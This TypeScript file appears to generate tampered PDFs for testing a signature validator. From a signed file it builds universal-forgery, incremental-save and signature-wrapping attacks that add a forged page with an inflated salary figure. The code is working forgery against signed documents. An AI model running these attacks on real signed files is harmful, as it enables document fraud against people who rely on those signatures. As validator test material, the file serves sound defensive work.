/*
 * Attacks on the signature of a PDF, built from a signed file: those of "1 Trillion Dollar Refund" (Mladenov, Mainka et al., 2019: universal
 * forgery, incremental saving, wrapping), and simpler ones. None of these files may be called intact.
 */

interface Parts {
  file: Buffer
  /** Position and text of the range, with the blanks that pad it. */
  at: number
  range: string
  /** The gap: from `<` to behind `>`. */
  start: number
  end: number
}

function partsOf(file: Buffer): Parts {
  const at = file.lastIndexOf('/ByteRange')
  const [range = ''] = /^\/ByteRange \[ [\d ]+\] */.exec(file.toString('latin1', at, at + 120)) ?? []
  const [start = 0, end = 0] = (/\[ 0 (\d+) (\d+)/.exec(range) ?? []).slice(1).map(Number)
  return { file, at, range, start, end }
}

/** Replaces bytes, keeping the length by blanks where the new text is shorter. */
function put(file: Buffer, at: number, length: number, text: string): Buffer {
  return Buffer.concat([file.subarray(0, at), Buffer.from(text.padEnd(length), 'latin1'), file.subarray(at + length)])
}

const EVIL = '\n90 0 obj\n<< /Type /Page /Contents (Salario: R$ 99.999,00) >>\nendobj\n'
const UPDATE = `${EVIL}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 91 >>\nstartxref\n9\n%%EOF\n`
const text = (words: string) => Buffer.from(words, 'latin1')

/** Range and signature that a validator may not look at, or looks at in vain. */
function universal({ file, at, range, start, end }: Parts): Record<string, Buffer> {
  const size = file.length
  const ranges: Record<string, string> = {
    'no range': '',
    'a range of null': '/ByteRange null',
    'an empty range': '/ByteRange []',
    'a range of zeros': '/ByteRange [0 0 0 0]',
    'a negative length': `/ByteRange [0 ${start} ${end} -1]`,
    'a negative offset': `/ByteRange [-1 ${start} ${end} 9]`,
    'three numbers': `/ByteRange [0 ${start} ${end}]`,
    'a range of two parts only': `/ByteRange [0 ${size}]`,
    'a range beyond the file': `/ByteRange [0 ${start} ${end} ${size}]`,
    'a second part of nothing': `/ByteRange [0 ${start} ${end} 0]`,
    'a range of real numbers': `/ByteRange [0 ${start}.0 ${end} 9]`,
    'a reference as range': '/ByteRange 5 0 R',
    'a range of a string': '/ByteRange (0 1 2 3)',
    'an escaped name': `/Byte#52ange [0 ${start} ${end} ${size - end}]`,
    'a range of everything': `/ByteRange [0 ${start} ${start} ${size - start}]`,
    'a first part of nothing': `/ByteRange [0 0 ${end} ${size - end}]`,
  }
  const key = file.lastIndexOf('/Contents', start)
  const contents: Record<string, string> = {
    'no signature': '',
    'a signature of null': '/Contents null',
    'an empty signature': '/Contents <>',
    'a signature of zero': '/Contents <00>',
    'an empty message': '/Contents <3000>',
    'a signature as text': '/Contents (signed)',
  }
  return {
    ...Object.fromEntries(Object.entries(ranges).map(([name, to]) => [name, put(file, at, range.length, to)])),
    ...Object.fromEntries(Object.entries(contents).map(([name, to]) => [name, put(file, key, end - key, to)])),
  }
}

/** Bytes behind the signed ones. */
function appended({ file, at, range, start, end }: Parts): Record<string, Buffer> {
  const object = file.subarray(file.lastIndexOf(' obj', at) - 4, file.indexOf('endobj', end) + 6)
  const longer = (more: string) => {
    const all = Buffer.concat([file, text(more)])
    return put(all, at, range.length, `/ByteRange [ 0 ${start} ${end} ${all.length - end} ]`)
  }
  return {
    'a whole update': Buffer.concat([file, text(UPDATE)]),
    'an update without a table': Buffer.concat([file, text(`${EVIL}trailer\n<< /Root 1 0 R >>\n%%EOF\n`)]),
    'an update without a trailer': Buffer.concat([file, text(`${EVIL}%%EOF\n`)]),
    'an update with a copy of the signature': Buffer.concat([file, text(EVIL), object, text('\n%%EOF\n')]),
    'an update inside of a longer range': longer(UPDATE),
    'a comment': Buffer.concat([file, text('% nothing\n%%EOF')]),
    'a line end': Buffer.concat([file, text('\n')]),
    'a byte of zero': Buffer.concat([file, Buffer.of(0)]),
  }
}

/** The signed parts moved away from each other, with something between them. */
function wrapped({ file, at, range, start, end }: Parts): Record<string, Buffer> {
  const behind = file.subarray(end)
  const gap = file.subarray(start, end)
  const moved = (between: Buffer, hex = gap) => {
    const all = Buffer.concat([file.subarray(0, start), hex, between, behind])
    const to = start + hex.length + between.length
    return put(all, at, range.length, `/ByteRange [ 0 ${start} ${to} ${behind.length} ]`)
  }
  const bare = file.subarray(start, end - 1)
  const shifted = (more: string) => Buffer.concat([file.subarray(0, end), text(more), behind])
  return {
    'an object in the gap': moved(text(EVIL)),
    'blanks in the gap': moved(text(' '.repeat(64))),
    'a comment in the gap': moved(text('% nothing\n')),
    'a second range in the gap': moved(text(`${range}/Contents <00>`)),
    'an object in a longer gap of zeros': moved(text(`${EVIL}>`), Buffer.concat([bare, text('00'.repeat(64))])),
    'an update in the gap': moved(text(UPDATE)),
    'an object behind the gap, under the old range': shifted(EVIL),
    'a second range before the first': put(file, at, range.length, `/ByteRange [0 9 9 9] ${range}`),
    'parts in the other order': put(file, at, range.length, `/ByteRange [ ${end} ${behind.length} 0 ${start} ]`),
  }
}

/** What no reader notices in the signature itself. */
function inside({ file, start, end }: Parts): Record<string, Buffer> {
  const hex = file.toString('latin1', start + 1, end - 1)
  const message = hex.replace(/(00)+$/, '')
  const letter = /[a-f]/.exec(hex)?.index ?? 0
  const set = (at: number, by: string) => put(file, start + 1 + at, by.length, by)
  return {
    'a letter of the other case': set(letter, hex.charAt(letter).toUpperCase()),
    'bytes behind the message': set(message.length + 2, '01'),
    'a blank in the signature': set(hex.length - 1, ' '),
    'another version': set(hex.indexOf('020101'), '020103'),
    'a message without its end': set(message.length - 8, '00000000'),
  }
}

function ends({ file, start }: Parts): Record<string, Buffer> {
  return {
    'the file cut off': file.subarray(0, file.length - 10),
    'the file cut off in the signature': file.subarray(0, start + 100),
    'a byte before the file': Buffer.concat([text(' '), file]),
    'another file before it': Buffer.concat([file, file]),
  }
}

/** Builds all attacks on a signed file, by name. */
export function pdfAttacks(file: Buffer): Record<string, Buffer> {
  const parts = partsOf(file)
  return { ...universal(parts), ...appended(parts), ...wrapped(parts), ...inside(parts), ...ends(parts) }
}
